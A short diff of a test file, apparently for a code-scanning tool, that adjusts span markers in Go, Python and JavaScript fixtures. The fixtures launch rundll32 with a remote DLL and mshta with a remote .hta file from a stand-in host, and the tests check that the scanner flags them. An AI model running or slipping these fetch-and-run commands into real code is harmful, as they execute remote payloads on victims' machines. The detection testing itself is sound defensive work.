@@ -9,15 +9,15 @@ async function found(format: string, text: string): Promise<string[]> {
 test.each([
   [
     "go",
-    'import "os/exec"\nname := "rundll32"\nargs := []string{«"https://x.example/a.dll,Run"}\nexec.Command(name», args...).Start()',
+    'import "os/exec"\nname := "rundll32"\nargs := []string{"«https://x.example/a.dll,Run"}\nexec.Command(name», args...).Start()',
   ],
   [
     "python",
-    'import subprocess\nname = "mshta"\nargs = [«"https://x.example/a.hta"]\nsubprocess.run([name», *args])',
+    'import subprocess\nname = "mshta"\nargs = ["«https://x.example/a.hta"]\nsubprocess.run([name», *args])',
   ],
   [
     "js",
-    'const { spawn } = require("child_process");\nconst name = "mshta";\nconst args = [«"https://x.example/a.hta"];\nspawn(name», args);',
+    'const { spawn } = require("child_process");\nconst name = "mshta";\nconst args = ["«https://x.example/a.hta"];\nspawn(name», args);',
   ],
 ])(
   "arguments that are written before the call are part of the span in %s: %s",
